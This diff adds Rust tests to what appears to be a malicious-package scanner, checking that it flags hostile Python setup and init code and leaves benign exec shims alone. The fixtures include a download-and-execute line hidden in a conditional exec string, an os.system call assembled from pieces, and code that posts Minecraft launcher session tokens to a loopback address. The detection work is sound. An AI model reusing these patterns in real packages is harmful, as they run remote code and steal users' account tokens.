@@ -684,3 +684,71 @@ def fetch(url):
     let f = run("pkg/run.py", FileRole::Module, src);
     assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
 }
+
+// ── code handed to exec as plain text: what it runs is what the file runs ──
+
+#[test]
+fn run_hidden_in_a_conditional_exec_string_is_critical() {
+    let src = r#"
+import urllib.request as r, subprocess as s, os
+exec("s.run(os.path.abspath('canary.bin'), check=1)" if open('canary.bin', 'wb').write(r.urlopen('http://127.0.0.1:9/c').read()) else "pass")
+"#;
+    let f = run("x-1.0/setup.py", FileRole::SetupScript, src);
+    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
+}
+
+#[test]
+fn command_folded_from_pieces_and_exec_ed_is_walked() {
+    let src = "import os\nexec('os.sys' + 'tem(\"touch /tmp/canary\")')\n";
+    let f = run("x-1.0/setup.py", FileRole::SetupScript, src);
+    assert!(f.iter().any(|x| x.alert.id() == "install-shell" || x.alert.id() == "install-subprocess"), "{f:#?}");
+    assert!(f.iter().all(|x| x.line == Some(2)), "findings point at the exec line: {f:#?}");
+}
+
+#[test]
+fn compat_code_given_to_exec_as_text_is_not_critical() {
+    // six-style compatibility shims: Python 2 syntax (does not parse) and a helper
+    // defined through exec so older parsers accept the module
+    let src = r#"
+import sys
+if sys.version_info[0] == 2:
+    exec("def reraise(tp, value, tb=None):\n    raise tp, value, tb\n")
+else:
+    exec("def raise_from(value, from_value):\n    raise value from from_value\n")
+exec("from os.path import join as _join")
+"#;
+    let f = run("pkg/compat.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty() && !f.iter().any(|x| x.severity() >= Severity::High), "{f:#?}");
+}
+
+// ── game launcher session tokens: a stealer target like a browser store ──
+
+#[test]
+fn launcher_session_tokens_sent_at_import_are_critical() {
+    let src = r#"
+import os, requests
+def send(url, data):
+    requests.post(url, files={"f": ("a.json", data)})
+def read(p):
+    if os.path.exists(p):
+        return open(p, "rb").read()
+path = os.path.join(os.path.expanduser("~"), "AppData", "Roaming", ".minecraft", "launcher_accounts.json")
+data = read(path)
+if data:
+    send("http://127.0.0.1:9/canary", data)
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+}
+
+#[test]
+fn launcher_profiles_listed_locally_are_not_critical() {
+    let src = r#"
+import json, os
+def accounts(minecraft_dir):
+    with open(os.path.join(minecraft_dir, "launcher_accounts.json")) as f:
+        return [a["minecraftProfile"]["name"] for a in json.load(f)["accounts"].values()]
+"#;
+    let f = run("launcherlib/accounts.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
